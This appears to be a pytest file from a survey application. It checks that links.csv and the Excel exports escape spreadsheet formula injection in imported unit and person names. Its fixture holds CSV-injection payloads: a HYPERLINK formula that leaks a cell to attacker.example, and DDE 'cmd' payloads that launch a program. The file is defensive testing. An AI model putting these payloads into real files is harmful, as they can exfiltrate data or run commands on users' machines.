"""No text from an imported file reaches a spreadsheet as a formula: links.csv, the appraisal form and
the index workbook, each written by the platform from units and people named like an attack
(`=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)`, `-2+3`, a leading tab). One rule (analysis.cells) for all."""

from __future__ import annotations

import csv

import pytest
from openpyxl import load_workbook

from analysis.cells import FORMULA_START, neutralise, phone_cell
from survey_app import documents
from survey_app.services.index import build_index
from survey_app.services.survey import invitations, roster

from .support.campaigns import RESPONDENT_HEADER, write_csv

ATTACKS = {
    "SO-X1": '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
    "SO-X2": "+cmd|' /C calc'!A0",
    "SO-X3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "SO-X4": "-2+3+cmd|' /C calc'!A0",
    "SO-X5": "\t=1+1",
}


@pytest.fixture
def hostile(sonla, tmp_path):
    """Units and people whose names are formulas."""
    units = [[code, name, "so"] for code, name in ATTACKS.items()]
    roster.import_units(sonla.campaign, write_csv(tmp_path / "u.csv", ["code", "name", "unit_type"], units))
    people = [
        [code, "SO-CC", name, "Chuyên viên", f"x{i}@thu.example", f"09130000{i:02d}", "", ""]
        for i, (code, name) in enumerate(ATTACKS.items())
    ]
    roster.import_respondents(sonla.campaign, write_csv(tmp_path / "p.csv", RESPONDENT_HEADER, people))
    invitations.issue_invitations(sonla.campaign)
    return sonla


def _as_written(value: str) -> str:
    """What the rule writes for a text: an apostrophe before anything a spreadsheet would run."""
    return "'" + value if value.startswith(FORMULA_START) else value


def test_the_rule(app):
    assert [neutralise(v) for v in ("=1+1", "+84", "-x", "@a", "\tx", "\rx", "Sở", 5, None)] == [
        "'=1+1",
        "'+84",
        "'-x",
        "'@a",
        "'\tx",
        "'\rx",
        "Sở",
        5,
        None,
    ]
    assert phone_cell("+84912345678") == "+84912345678"
    assert phone_cell("+84 91=1+1") == "'+84 91=1+1" and phone_cell("=1+1") == "'=1+1"


def test_links_csv_neutralises_every_name(hostile, tmp_path):
    out = tmp_path / "links.csv"
    invitations.export_links(hostile.campaign, out)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    attacked = [r for r in rows if r["unit_code"] in ATTACKS]
    assert len(attacked) == len(ATTACKS)
    for r in attacked:
        name = " ".join(ATTACKS[r["unit_code"]].split())  # the import collapses spaces (the tab too)
        assert r["unit_name"] == _as_written(name) and r["full_name"] == _as_written(name)
        assert r["phone"].startswith("+84") and r["phone"][1:].isdigit()  # a phone stays exact
    for r in rows:
        for column, value in r.items():
            assert not value.startswith(FORMULA_START) or column == "phone", (column, value)


def _formulas(path) -> list[str]:
    """Every formula cell, and every text cell a spreadsheet would run if someone edited it."""
    wb = load_workbook(path)
    return [
        f"{ws.title}!{c.coordinate}: {c.value}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith(FORMULA_START))
    ]


def test_the_appraisal_form_has_no_live_formula(hostile, tmp_path):
    path = tmp_path / "mau.xlsx"
    documents.appraisal_form(hostile.campaign, path)
    assert _formulas(path) == []
    names = {c.value for row in load_workbook(path).active.iter_rows(min_row=2) for c in row[1:2]}
    assert {_as_written(" ".join(n.split())) for n in ATTACKS.values()} <= names


def test_the_index_workbook_has_no_live_formula(hostile, tmp_path):
    path = tmp_path / "chi-so.xlsx"
    documents.workbook(build_index(hostile.campaign), path)
    assert _formulas(path) == []
    texts = {c.value for ws in load_workbook(path).worksheets for row in ws.iter_rows() for c in row}
    assert {_as_written(" ".join(n.split())) for n in ATTACKS.values()} <= texts
